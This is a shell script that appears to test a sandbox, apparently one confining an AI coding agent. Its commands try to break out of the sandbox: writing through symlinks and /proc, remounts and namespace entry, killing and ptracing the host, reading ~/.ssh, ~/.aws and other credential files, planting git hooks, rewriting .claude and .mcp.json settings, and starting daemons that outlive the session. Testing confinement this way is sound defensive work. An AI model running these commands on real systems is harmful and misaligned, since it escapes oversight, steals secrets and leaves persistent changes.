# Tries to get out of the sandbox, in every way that is known here. Variables come from attacks.env. What is read goes
# into the folder loot, what is written outside is called pwn-*. Nothing stops at a failure. With CONTROL=1 it leaves out
# what would harm a machine that does not confine it.
. ./attacks.env
mkdir -p loot
try() { name=$1; shift; ( timeout 10 bash -c "$*" ) > "loot/$name" 2>&1 < /dev/null; }
confined() { [ -n "${CONTROL:-}" ] || try "$@"; }
export OUT HOST_PID PORT SOCKET ABSTRACT MARK HOME

# Writing
try absolute 'echo x > "$OUT/pwn-absolute"'
try dots 'echo x > ../outside/pwn-dots'
try link 'ln -s "$OUT/pwn-link" l1; echo x > l1'
try folder-link 'ln -s "$OUT" l2; echo x > l2/pwn-folder-link'
try hard-link 'ln "$OUT/canary" h1 && echo changed > h1'
try rename 'mv attacks.env "$OUT/pwn-rename"; cp attacks.sh "$OUT/pwn-copy"; mv "$OUT/canary" stolen'
try mode 'chmod 777 "$OUT/canary"; touch -d 2001-01-01 "$OUT/canary"; truncate -s 0 "$OUT/canary"; [ -n "$CONTROL" ] || rm -rf "$OUT"'
for base in /proc/self/root /proc/1/root "/proc/$PPID/root" "/proc/$HOST_PID/root" /proc/self/cwd/../outside; do
  try "root$(echo "$base" | tr / -)" "echo x > '$base/$OUT/pwn-proc-root' || echo x > '$base/pwn-proc-cwd'"
done
try descriptors 'for n in 3 4 5 6 7 8 9 10 11 12; do echo x > /proc/self/fd/$n; echo x >&$n; done'
try shared 'echo x > "/var/tmp/pwn-$MARK"; echo x > "/dev/shm/pwn-$MARK"; echo x > "/tmp/pwn-$MARK"; echo x > "/run/pwn-$MARK"'
try home 'echo evil >> ~/.bashrc; mkdir -p ~/.ssh ~/.carabiner; echo x > ~/.ssh/pwn-keys; echo x > ~/.carabiner/pwn'
confined system 'echo x > "/etc/pwn-$MARK"; echo x > "/usr/local/bin/pwn-$MARK"; echo x > "/var/lib/pwn-$MARK"'

# Mounts and namespaces
confined remount 'mount -o remount,rw /; mount -o remount,rw,bind "$OUT"; mount -o remount,rw,bind /; umount -l "$OUT"; echo x > "$OUT/pwn-remount"'
confined bind-mount 'mkdir m; mount --bind "$OUT" m; echo x > m/pwn-bind; mount -t tmpfs none m; umount .claude; umount secrets; cat secrets/*'
confined namespaces 'unshare -Urm sh -c "mount -o remount,rw,bind /; umount secrets; cat secrets/key; echo x > $OUT/pwn-unshare"; unshare -m true'
confined enter 'nsenter -t "$HOST_PID" -a sh -c "echo x > $OUT/pwn-nsenter"; nsenter -t 1 -m sh -c "echo x > $OUT/pwn-nsenter"'
confined chroot 'chroot "/proc/$HOST_PID/root" sh -c "echo x > $OUT/pwn-chroot"; chroot /proc/1/root sh -c "echo x > $OUT/pwn-chroot"'
confined device 'mknod disk b 254 0; mknod disk2 b 8 0; head -c 100 disk disk2 /dev/vda /dev/sda /dev/mem /dev/kmem /proc/kcore'
confined kernel 'for file in /proc/sys/kernel/core_pattern /proc/sysrq-trigger /sys/kernel/uevent_helper /sys/fs/cgroup/*; do [ -w $file ] && echo "$file is writable"; done; (: >> /proc/sys/kernel/core_pattern) && echo opened'

# Other processes
try kill 'kill -9 "$HOST_PID"; kill -TERM -- "-$HOST_PID"'
try environment 'cat "/proc/$HOST_PID/environ" /proc/[0-9]*/environ | tr "\0" "\n" | grep -a HOST_SECRET'
try memory 'cat "/proc/$HOST_PID/maps" "/proc/$HOST_PID/mem"; ls -l "/proc/$HOST_PID/fd"'
try trace 'python3 -c "
import ctypes
c = ctypes.CDLL(None, use_errno=True)
print(\"attached\" if c.ptrace(16, $HOST_PID, 0, 0) == 0 else \"refused\")"'

# Connections
try tcp 'exec 3<> "/dev/tcp/127.0.0.1/$PORT" && echo connected >&3'
for family in AF_INET AF_INET6; do
  try "python-$family" "python3 -c 'import socket; s = socket.socket(socket.$family); s.settimeout(3); s.connect((\"127.0.0.1\" if \"$family\" == \"AF_INET\" else \"::ffff:127.0.0.1\", $PORT)); s.send(b\"x\")'"
done
try unix 'python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"$SOCKET\"); s.send(b\"x\")"'
try unix-cwd 'cd "$(dirname "$SOCKET")" && python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"$(basename "$SOCKET")\")"'
try abstract 'python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect(b\"\\0\" + b\"$ABSTRACT\"); s.send(b\"x\")"'
try old-calls 'python3 -c "
import ctypes, struct
# io_uring_setup, and the numbers of x32.
c = ctypes.CDLL(None)
print(c.syscall(425, 8, ctypes.create_string_buffer(200)), c.syscall(0x40000000 + 41, 1, 1, 0))"'
try agents 'ssh-add -l; echo "$SSH_AUTH_SOCK$DBUS_SESSION_BUS_ADDRESS"; ls -l /run /var/run "$XDG_RUNTIME_DIR"; docker ps'

# Reading
try credentials 'cat ~/.ssh/* ~/.aws/* ~/.config/gh/* ~/.netrc ~/.npmrc ~/.carabiner/*'
try search 'grep -rs SECRET-4711 ~ . --exclude-dir=loot; find ~ . -type f -exec cat {} +'
try denied 'cat .env secrets/key secrets/* via/key twin conf/deep/key; dd if=.env; cp -r secrets loot/copy; tar cf - secrets'
try denied-proc 'cat /proc/self/cwd/secrets/key "/proc/self/root$PWD/secrets/key" /proc/1/cwd/secrets/key "/proc/$HOST_PID/cwd/secrets/key"'
try denied-rename 'mv secrets public; mv conf conf2; cat public/key conf2/deep/key; ln secrets/key loot/linked; ln -s secrets/key loot/symlinked; cat loot/symlinked'
try denied-git 'git show HEAD:secrets/key; git diff --no-index /dev/null secrets/key'

# What runs or counts later
try hooks 'mkdir -p .git/hooks; printf "#!/bin/sh\ntouch %s/pwn-hook\n" "$OUT" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit'
try settings 'mkdir -p .claude; echo "{\"pwn\":1}" > .claude/settings.json; echo "{\"pwn\":1}" > .mcp.json; rm -rf .claude .mcp.json; mv .claude x; mkdir .claude && echo "{\"pwn\":1}" > .claude/settings.json'
try git-folder 'mv .git away; rm -rf .git; mkdir -p .git/hooks && echo pwn > .git/hooks/pre-commit; echo /evil > .git/commondir; echo "[core] fsmonitor=/evil" >> .git/config'
try daemon "setsid bash -c 'exec -a $MARK sleep 1000' & (setsid bash -c '(exec -a $MARK sleep 1000) &' &) ; nohup bash -c 'exec -a $MARK sleep 1000' &"
try daemon-clean "env -i setsid bash -c '(exec -a $MARK sleep 1000) &' &"
echo over > loot/over
